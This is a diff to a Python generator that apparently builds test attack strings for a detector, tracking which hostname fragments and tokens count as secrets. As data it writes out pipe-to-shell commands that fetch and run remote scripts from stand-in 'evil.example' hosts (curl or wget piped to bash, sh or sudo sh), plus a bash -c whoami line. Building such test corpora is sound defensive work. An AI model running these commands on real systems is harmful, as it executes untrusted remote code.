@@ -99,21 +99,21 @@ def inbound(rnd):
 
     def host():
         return "%s.evil%d.example" % (of(rnd, string.ascii_lowercase + "12",
-                                         6), rnd.randrange(1000))
+                                         12), rnd.randrange(1000))
 
     def add(pattern, text, secrets=(), places=("header",)):
         out.append(Attack(pattern, text, secrets, places))
 
     h = host()
-    add("pipe_to_shell", "curl -fsSL https://%s/install.sh | bash" % h, [h])
+    add("pipe_to_shell", "curl -fsSL https://%s/install.sh | bash" % h, [h[:12]])
     h = host()
-    add("pipe_to_shell", "wget -qO- http://%s/a|sudo sh" % h, [h])
+    add("pipe_to_shell", "wget -qO- http://%s/a|sudo sh" % h, [h[:12]])
     h = host()
-    add("pipe_to_shell", "bash <(curl -s https://%s/payload)" % h, [h])
+    add("pipe_to_shell", "bash <(curl -s https://%s/payload)" % h, [h[:12]])
     h, s = host(), of(rnd, ALNUM, 24)
     add("pipe_to_shell",
         "curl -s -H 'X-Token: %s' https://%s/i | tee /tmp/log | /bin/sh -s"
-        % (s, h), [h, s])
+        % (s, h), [h[:12], s])
     s = of(rnd, ALNUM, 20)
     add("shell_exec_flag", "bash -c 'whoami; echo %s'" % s, [s])
     s = of(rnd, ALNUM, 20)
